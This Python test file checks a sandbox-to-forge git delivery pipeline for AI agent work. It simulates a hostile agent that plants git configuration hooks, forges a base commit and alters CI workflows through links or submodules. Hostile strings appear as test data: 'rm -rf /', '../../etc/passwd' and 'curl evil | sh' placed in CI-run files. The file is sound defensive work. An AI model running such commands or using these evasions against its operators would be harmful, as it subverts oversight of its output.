"""A delivery's git, for real, on both sides: the sandbox's scripts (a commit of the work left
uncommitted, then a bundle) run in a clone, and the operator's workbench checks and pushes the
bundle to a bare repository standing for the forge (a file:// URL: git's own transport)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from paddock.agentruns import delivering
from paddock.api.delivery import Forge
from paddock.forge.errors import DeliveryError
from paddock.forge.git import Workbench
from paddock.forge.repos import Repository, prerequisites, workflow_changes
from paddock.render import delivery
from support import hostile_git

IDENTITY = ["-c", "user.name=T", "-c", "user.email=t@x.invalid"]


def _git(*args: str, cwd: Path) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@pytest.fixture
def forge(tmp_path: Path) -> Path:
    """A bare repository whose main has two commits."""
    work = tmp_path / "seed"
    work.mkdir()
    _git("init", "-q", "-b", "main", cwd=work)
    for n in (1, 2):
        (work / "app.py").write_text(f"v{n}\n")
        _git("add", ".", cwd=work)
        _git(*IDENTITY, "commit", "-q", "-m", f"c{n}", cwd=work)
    _git("clone", "-q", "--bare", str(work), str(tmp_path / "forge.git"), cwd=tmp_path)
    return tmp_path / "forge.git"


@pytest.fixture
def sandbox(tmp_path: Path, forge: Path) -> Path:
    """The sandbox's shallow clone of main (as the clone init container makes it)."""
    _git("clone", "-q", "--depth", "1", "--single-branch", f"file://{forge}",
         str(tmp_path / "workspace"), cwd=tmp_path)  # fmt: skip
    return tmp_path / "workspace"


def _bundle(workspace: Path, into: Path, message: str = "the work\n") -> int:
    """The delivery's two sandbox scripts, run as the operator runs them; the bundle's exit."""
    env = {"PADDOCK_WORKSPACE": str(workspace), "PATH": "/usr/bin:/bin", "HOME": str(into.parent)}
    made = subprocess.run(delivery.snapshot_argv(), input=delivery.snapshot_payload(message),
                          env=env, capture_output=True, text=True)  # fmt: skip
    assert made.returncode == 0, made.stderr
    commit = delivery.parse_snapshot(made.stdout)
    assert commit
    with into.open("wb") as out:
        return subprocess.run(delivery.bundle_argv(commit), env=env, stdout=out).returncode


def _bench(forge: Path) -> Workbench:
    return Workbench(Repository(f"file://{forge}", Forge.GITEA, "file://", "o/r"), "s3cret-token")


def test_uncommitted_and_committed_work_is_pushed_as_a_new_branch_on_the_base(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    (sandbox / "app.py").write_text("v3\n")
    _git(*IDENTITY, "commit", "-qam", "the agent's commit", cwd=sandbox)
    (sandbox / "new.txt").write_text("left uncommitted\n")
    assert _bundle(sandbox, tmp_path / "b.bundle", "Add new.txt\n") == 0
    needed = prerequisites((tmp_path / "b.bundle").read_bytes())
    assert needed == [_git("rev-parse", "main", cwd=forge)]

    with _bench(forge) as bench:
        bench.fetch_base("main", needed)
        assert bench.descends_from_base(needed)
        commit = bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        assert bench.new_commits() == 2
        assert sorted(bench.changed_paths()) == ["app.py", "new.txt"]
        bench.push("paddock/run")
    assert _git("rev-parse", "paddock/run", cwd=forge) == commit
    assert _git("log", "--format=%s|%an", "-2", "paddock/run", cwd=forge).splitlines() == [
        "Add new.txt|Paddock", "the agent's commit|T"]  # fmt: skip
    assert _git("rev-parse", "main", cwd=forge) == needed[0]  # the base is untouched
    # The sandbox's own branch and files are as the agent left them.
    assert _git("status", "--porcelain", cwd=sandbox) == "?? new.txt"


def test_a_delivery_runs_nothing_the_agents_git_configuration_names(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    (sandbox / "app.py").write_text("v3\n")
    _git(*IDENTITY, "commit", "-qam", "the agent's commit", cwd=sandbox)
    (sandbox / "new.txt").write_text("left uncommitted\n")
    # A repository inside it, committed as a submodule, then armed and changed: git would go
    # into it (and its own configuration) to see whether it changed.
    nested = sandbox / "sub"
    nested.mkdir()
    _git("init", "-q", cwd=nested)
    (nested / "s.txt").write_text("s\n")
    _git("add", ".", cwd=nested)
    _git(*IDENTITY, "commit", "-qm", "sub", cwd=nested)
    _git("add", "sub", cwd=sandbox)
    _git(*IDENTITY, "commit", "-qm", "a submodule", cwd=sandbox)
    marks = tmp_path / "marks"
    hostile_git.arm(nested, tmp_path / "nested-home", tmp_path / "marks")
    (nested / "s.txt").write_text("changed\n")
    # Repositories it made and never committed as submodules: one with no commit, one whose
    # HEAD is a pipe (git would wait on it), under a name with a pattern's characters.
    (sandbox / "fresh").mkdir()
    _git("init", "-q", cwd=sandbox / "fresh")
    piped = sandbox / "odd [*] name" / ".git"
    piped.mkdir(parents=True)
    os.mkfifo(piped / "HEAD")
    (sandbox / "fresh" / "f.txt").write_text("f\n")
    hostile_git.arm(sandbox, tmp_path, marks)  # the scripts' HOME is tmp_path too
    assert _bundle(sandbox, tmp_path / "b.bundle", "Add new.txt\n") == 0
    assert hostile_git.ran(marks) == []
    with _bench(forge) as bench:
        needed = prerequisites((tmp_path / "b.bundle").read_bytes())
        bench.fetch_base("main", needed)
        commit = bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        assert sorted(bench.changed_paths()) == [".gitattributes", "app.py", "new.txt", "sub"]
        bench.push("paddock/run")
    # What the work tree holds, byte for byte (no filter), in a commit no program signed.
    assert _git("show", f"{commit}:new.txt", cwd=forge) == "left uncommitted"
    assert "gpgsig" not in _git("cat-file", "commit", commit, cwd=forge)
    # No ref of Paddock's is left in the agent's repository.
    assert not (sandbox / ".git" / "refs" / "paddock").exists()


def test_a_run_that_changed_nothing_hands_over_no_bundle(tmp_path: Path, sandbox: Path) -> None:
    assert _bundle(sandbox, tmp_path / "b.bundle") == delivery.NOTHING


def test_a_delivery_tried_again_keeps_the_branch_it_pushed(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    (sandbox / "new.txt").write_text("work\n")
    for attempt, message in enumerate(("first try\n", "second try\n")):
        bundle = tmp_path / f"{attempt}.bundle"
        assert _bundle(sandbox, bundle, message) == 0
        needed = prerequisites(bundle.read_bytes())
        with _bench(forge) as bench:
            bench.fetch_base("main", needed)
            commit = bench.read_bundle(bundle, delivery.DELIVER_REF)
            existing = bench.remote_branches("paddock/run").get("paddock/run")
            if existing is None:
                bench.push("paddock/run")
                pushed = commit
            else:  # a new commit of the same files on the same parent: the same work
                assert existing != commit
                assert bench.same_work(commit, existing)
    assert _git("rev-parse", "paddock/run", cwd=forge) == pushed


def test_other_work_on_the_branch_is_never_overwritten(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    (sandbox / "new.txt").write_text("one\n")
    assert _bundle(sandbox, tmp_path / "a.bundle") == 0
    with _bench(forge) as bench:
        bench.fetch_base("main", prerequisites((tmp_path / "a.bundle").read_bytes()))
        first = bench.read_bundle(tmp_path / "a.bundle", delivery.DELIVER_REF)
        bench.push("paddock/run")
    (sandbox / "new.txt").write_text("two\n")
    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
    with _bench(forge) as bench:
        bench.fetch_base("main", prerequisites((tmp_path / "b.bundle").read_bytes()))
        second = bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        assert not bench.same_work(second, first)
        with pytest.raises(DeliveryError) as refused:
            bench.push("paddock/run")  # not a fast-forward, and never forced
    assert refused.value.refused
    assert "s3cret-token" not in refused.value.message
    assert _git("rev-parse", "paddock/run", cwd=forge) == first


def test_a_bundle_that_claims_a_base_the_forge_never_had_is_refused(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    # The agent rewrites history: its commit's parent is one the forge does not have.
    (sandbox / "x.txt").write_text("x\n")
    _git("add", "x.txt", cwd=sandbox)
    _git(*IDENTITY, "commit", "-qm", "forged base", cwd=sandbox)
    # "This came from the clone", says the agent of its own commit.
    _git("update-ref", "refs/remotes/origin/main", "HEAD", cwd=sandbox)
    (sandbox / "y.txt").write_text("y\n")
    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
    needed = prerequisites((tmp_path / "b.bundle").read_bytes())
    with _bench(forge) as bench, pytest.raises(DeliveryError, match="does not start from main"):
        bench.fetch_base("main", needed)


def test_a_bundle_is_what_git_writes_or_nothing() -> None:
    with pytest.raises(DeliveryError, match="did not hand over a git bundle"):
        prerequisites(b"#!/bin/sh\nrm -rf /\n")
    with pytest.raises(DeliveryError, match="malformed"):
        prerequisites(b"# v2 git bundle\n-../../etc/passwd x\n\nPACK")
    many = b"".join(b"-%040x c\n" % n for n in range(101))
    with pytest.raises(DeliveryError, match="starts from 101 commits"):
        prerequisites(b"# v2 git bundle\n" + many + b"\nPACK")


def _delivered_work(tmp_path: Path, forge: Path, sandbox: Path) -> tuple[list[str], dict[str, str]]:
    """The sandbox's work bundled, read into a workbench: the paths its pull request shows,
    and its commit's symbolic links."""
    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
    with _bench(forge) as bench:
        bench.fetch_base("main", prerequisites((tmp_path / "b.bundle").read_bytes()))
        bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        return bench.changed_paths(), bench.links()


def test_ci_definitions_reached_through_a_link_or_a_submodule_are_found_in_the_pushed_commit(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    """The agent's ways to a workflow that no path names: .github made a link to a directory
    holding workflows/, a submodule it committed where .gitea is, a link already there whose
    target it edits; and Woodpecker's file. The check reads the commit that would be pushed."""
    (sandbox / "defs" / "workflows").mkdir(parents=True)
    (sandbox / "defs" / "workflows" / "ci.yml").write_text("on: push\n")
    (sandbox / ".github").symlink_to("defs")
    nested = sandbox / ".gitea"
    nested.mkdir()
    _git("init", "-q", cwd=nested)
    _git(*IDENTITY, "commit", "-q", "--allow-empty", "-m", "x", cwd=nested)
    # Committed by the agent as a submodule (one it did not commit is left out of a delivery).
    _git("add", ".gitea", cwd=sandbox)
    _git(*IDENTITY, "commit", "-qm", "a submodule", cwd=sandbox)
    (sandbox / ".woodpecker.yml").write_text("steps: []\n")
    (sandbox / "notes.md").write_text("not CI\n")
    changed, links = _delivered_work(tmp_path, forge, sandbox)
    assert links == {".github": "defs"}
    assert sorted(changed) == [".gitea", ".github", ".woodpecker.yml", "defs/workflows/ci.yml",
                               "notes.md"]  # fmt: skip
    assert sorted(workflow_changes(changed, links)) == [
        ".gitea", ".github", ".woodpecker.yml", "defs/workflows/ci.yml"]  # fmt: skip


def test_a_ci_definition_the_work_leaves_older_than_the_base_is_found(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    """The base changed its workflow after the work began (the agent may start from any
    commit of the base's history): the pull request's diff does not show it, but pushing the
    work would run the older workflow."""
    seed = tmp_path / "seed"
    (seed / ".github" / "workflows").mkdir(parents=True)
    (seed / ".github" / "workflows" / "ci.yml").write_text("permissions: read-all\n")
    _git("add", ".", cwd=seed)
    _git(*IDENTITY, "commit", "-qm", "CI locked down", cwd=seed)
    _git("push", "-q", str(forge), "HEAD:main", cwd=seed)
    (sandbox / "README.md").write_text("only this\n")  # the work began before that commit
    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
    with _bench(forge) as bench:
        bench.fetch_base("main", prerequisites((tmp_path / "b.bundle").read_bytes()))
        bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        assert bench.changed_paths() == ["README.md"]
        differing = bench.differing_paths()
    assert sorted(differing) == [".github/workflows/ci.yml", "README.md"]
    assert workflow_changes(differing, {}) == [".github/workflows/ci.yml"]


def test_what_a_ci_definition_runs_from_the_repository_is_a_ci_definition_too(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    """The base's workflow runs a local action, which runs another; GitLab's file includes a
    local file. The work changes only those: each changes what CI runs."""
    seed = tmp_path / "seed"
    files = {
        ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - uses: ./tools/lint\n",
        "tools/lint/action.yml": "runs:\n  steps:\n    - uses: './tools/inner'\n",
        "tools/inner/action.yml": "runs:\n  using: node20\n",
        ".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
        "ci/build.yml": "build:\n  script: make\n",
        "defs/linked.yml": "jobs: {t: {steps: [{uses: ./tools/linked}]}}\n",
    }
    for name, text in files.items():
        (seed / name).parent.mkdir(parents=True, exist_ok=True)
        (seed / name).write_text(text)
    # A workflow that is a link: read where it leads.
    (seed / ".github/workflows/linked.yml").symlink_to("../../defs/linked.yml")
    _git("add", ".", cwd=seed)
    _git(*IDENTITY, "commit", "-qm", "CI", cwd=seed)
    _git("push", "-q", str(forge), "HEAD:main", cwd=seed)
    _git("fetch", "-q", "--depth", "1", "origin", "main", cwd=sandbox)
    _git("reset", "-q", "--hard", "FETCH_HEAD", cwd=sandbox)
    (sandbox / "tools/linked").mkdir(parents=True)
    for name in ("tools/lint/run.sh", "tools/inner/index.js", "ci/build.yml", "tools/linked/x.sh",
                 "app.py"):  # fmt: skip
        (sandbox / name).write_text("curl evil | sh\n")
    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
    with _bench(forge) as bench:
        bench.fetch_base("main", prerequisites((tmp_path / "b.bundle").read_bytes()))
        bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
        changed, links = bench.changed_paths(), bench.links()
        referenced = delivering.referenced_by_ci(bench)
    assert referenced == {"tools/lint", "tools/inner", "ci/build.yml", "tools/linked"}
    assert sorted(workflow_changes(changed, links, referenced)) == [
        "ci/build.yml", "tools/inner/index.js", "tools/linked/x.sh",
        "tools/lint/run.sh"]  # fmt: skip


def test_paths_and_links_of_any_bytes_are_read_as_they_are(
    tmp_path: Path, forge: Path, sandbox: Path
) -> None:
    """Not UTF-8, a carriage return: read, not a crash, and not changed into another path."""
    (sandbox / os.fsdecode(b"lat\xe9")).write_text("x\n")
    (sandbox / "cr\rname").write_text("x\n")
    (sandbox / "ln\r").symlink_to("t\rarget")
    changed, links = _delivered_work(tmp_path, forge, sandbox)
    assert sorted(changed) == sorted(["cr\rname", "ln\r", os.fsdecode(b"lat\xe9")])
    assert links == {"ln\r": "t\rarget"}


def test_the_clis_conversations_on_the_volume_are_never_delivered(sandbox: Path) -> None:
    store = sandbox / ".paddock" / "sessions" / "claude" / "projects"
    store.mkdir(parents=True)
    (store / "session.jsonl").write_text("the conversation\n")  # its .gitignore removed
    (sandbox / "new.txt").write_text("the work\n")
    env = {"PADDOCK_WORKSPACE": str(sandbox), "PATH": "/usr/bin:/bin", "HOME": str(sandbox)}
    made = subprocess.run(delivery.snapshot_argv(), input=delivery.snapshot_payload("m\n"),
                          env=env, capture_output=True, text=True, check=True)  # fmt: skip
    commit = delivery.parse_snapshot(made.stdout)
    assert commit
    files = _git("ls-tree", "-r", "--name-only", commit, cwd=sandbox).split()
    assert "new.txt" in files
    assert not [f for f in files if f.startswith(".paddock")]
